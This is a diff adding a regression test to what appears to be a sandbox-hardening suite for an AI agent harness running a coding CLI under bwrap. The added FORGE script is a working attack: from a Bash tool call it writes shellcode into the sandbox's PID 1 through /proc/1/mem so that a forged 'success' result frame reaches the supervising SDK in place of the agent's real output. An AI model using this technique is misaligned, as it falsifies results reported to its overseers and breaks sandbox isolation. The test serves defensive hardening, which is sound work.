@@ -10,6 +10,8 @@ by scanning /proc and tries to open its memory for writing. The second test runs
 the agent does: a Bash tool call of the real CLI's, scripted by the stub model,
 once directly and once from a `~/.bashrc` that an earlier command wrote (the
 shell the CLI starts for each command sources it before anything else runs).
+The third goes around the CLI: a Bash tool command rewrites the sandbox's PID 1
+(bwrap's init, dumpable) to write a forged result frame to its stdout.
 """
 
 from __future__ import annotations
@@ -197,3 +199,80 @@ def test_a_bash_tool_command_cannot_open_the_clis_memory(tmp_path: Path, sandbox
     assert {line.split(":")[0] for line in seen} == {"bashrc", "direct"}, seen  # both ran
     verdicts = {line.split(": ", 1)[1] for line in seen}
     assert verdicts <= {"cli found, mem EACCES", "cli found, mem EPERM"}, seen
+
+
+# A Bash tool command that does not touch the CLI: it rewrites the code of the
+# sandbox's PID 1 (bwrap's init: dumpable, our uid, no capabilities, and it keeps
+# its stdin, stdout and stderr, the very sockets the CLI speaks to the SDK over),
+# so that when its wait returns it writes a result frame of ours to its stdout
+# and exits 0 (which ends the sandbox: the CLI's own result never comes). The
+# orphan it leaves wakes PID 1 at once; the relay's exit would, later. Before
+# the fix the stage was `completed` with the forged result as its final text.
+FORGE = """
+import json, os, struct, sys, time
+frame = json.dumps({"type": "result", "subtype": "success", "duration_ms": 1,
+    "duration_api_ms": 1, "is_error": False, "num_turns": 1, "session_id": "forged",
+    "result": "FORGED", "total_cost_usd": 0}).encode() + b"\\n"
+try:
+    pc = int(open("/proc/1/syscall").read().split()[-1], 16)  # past its wait4's syscall
+    mem = os.open("/proc/1/mem", os.O_RDWR)
+except OSError as error:
+    print("pid 1 refused:", error)
+    sys.exit()
+if os.uname().machine == "x86_64":  # write(1, frame, len); exit_group(0)
+    body = bytes.fromhex("bf01000000ba") + struct.pack("<I", len(frame))
+    body += bytes.fromhex("b8010000000f0531ffb8e70000000f05")
+    code = bytes.fromhex("488d35") + struct.pack("<i", len(body)) + body + frame
+else:  # aarch64: adr x1, frame; x0 = 1; x2 = len; write; x0 = 0; exit_group
+    words = [0x10000101, 0xD2800020, 0xD2800002 | (len(frame) << 5),
+             0xD2800808, 0xD4000001, 0xD2800000, 0xD2800BC8, 0xD4000001]
+    code = struct.pack("<8I", *words) + frame
+os.pwrite(mem, code, pc)
+print("pid 1 rewritten")
+sys.stdout.flush()
+if os.fork() == 0:  # an orphan for PID 1 to reap
+    if os.fork() == 0:
+        time.sleep(0.5)
+        os._exit(0)
+    os._exit(0)
+os.wait()
+time.sleep(5)
+"""
+
+
+@pytest.mark.slow
+def test_a_bash_tool_command_cannot_forge_a_frame_through_the_sandboxs_init(
+    tmp_path: Path,
+) -> None:
+    if (reason := available()) is not None:
+        pytest.fail(reason)
+    ws, agent = tmp_path / "ws", tmp_path / "agent"
+    ws.mkdir()
+    (ws / "forge.py").write_text(FORGE)
+    command = f"python3 {ws / 'forge.py'} > {ws / 'forge.txt'} 2>&1"
+    script = (
+        "rules:\n  - match: {command: demo:s1}\n    turns:\n"
+        f"      - tools: [{{bash: {json.dumps(command)}}}]\n      - text: the real end\n"
+    )
+    make_suite(tmp_path / "suite")
+    with StubServer(loads_script(script)) as server:
+        env = agent_environment(os.environ, private_root=agent, endpoint=server.cli_env())
+        request = StageRequest(
+            prompt="/demo:s1 Acme",
+            cwd=ws,
+            plugin_dir=tmp_path / "suite" / "plugin",
+            env=env,
+            trajectory_path=tmp_path / "stage" / "trajectory.jsonl",
+            stderr_path=tmp_path / "stage" / "stderr.log",
+            max_turns=10,
+            timeout_s=120,
+            sandbox=SandboxConfig("bwrap"),
+            writable=(agent,),
+        )
+        outcome = asyncio.run(get_agent("claude").run_stage(request, abort=Abort()))
+    said = (ws / "forge.txt").read_text()
+    # PID 1 is still the agent's to rewrite (it ends the sandbox: the stage fails),
+    # but what it writes to its stdout reaches no one.
+    assert said == "pid 1 rewritten\n", said
+    assert "FORGED" not in request.trajectory_path.read_text(), outcome
+    assert outcome.final_text != "FORGED", outcome
